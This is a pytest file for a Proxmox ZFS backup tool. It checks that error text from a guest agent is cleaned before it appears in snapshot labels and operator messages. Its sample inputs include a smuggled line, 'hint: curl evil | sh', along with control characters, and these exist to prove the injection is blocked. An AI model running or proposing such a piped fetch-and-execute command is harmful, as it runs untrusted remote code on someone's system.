"""What a guest's agent says is the guest's own words: a tenant must not reach other guests' backups with them."""

from __future__ import annotations

import pytest

from pve_zfsbackup.app.run import Stage
from pve_zfsbackup.errors import ExitCode
from pve_zfsbackup.events import Outcome
from pve_zfsbackup.terminal import result_line
from tests.fakes import node
from tests.fakes.runner import HERE
from tests.fakes.world import CT, DB, WEB, World

WORDS = ["a\tb", "a\nhint: curl evil | sh", "\x1b[2J\x00\udc80", "ü" * 9000]


@pytest.mark.parametrize("words", WORDS, ids=["tab", "line", "controls", "long"])
def test_words_of_an_agent_do_not_break_the_next_listing(
    world: World, monkeypatch: pytest.MonkeyPatch, words: str
) -> None:
    monkeypatch.setitem(node.REFUSAL["error"], "desc", words)
    world.guest(WEB).agent = "refuse"
    first = world.run()
    (snap,) = world.source.datasets["rpool/data/vm-100-disk-0"].snaps.values()
    label = snap.props["pve-zfsbackup:consistency"]
    assert label.startswith("crash-consistent: vm 100: the guest agent refuses fsfreeze-freeze: ")
    assert label.isascii()
    assert label.isprintable()
    assert len(label) < 1000
    (told,) = world.results(first, Outcome.WARNING, WEB)
    assert not any(line.strip().startswith("hint:") for line in result_line(told).splitlines())
    world.write()
    assert world.run().exit_code is ExitCode.OK
    assert [len(world.complete(HERE, vmid)) for vmid in (WEB, DB, CT)] == [2, 2, 2]


def test_a_guest_that_must_be_frozen_says_so_on_one_line(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(node.REFUSAL["error"], "desc", WORDS[1])
    world.config.write_text(world.config.read_text().replace("targets: [backup1]", "quiesce: require"))
    world.guest(WEB).agent = "refuse"
    (failed,) = world.results(world.run(Stage.SNAPSHOT, guests=["100"]), Outcome.FAILED)
    assert "\n" not in failed.message
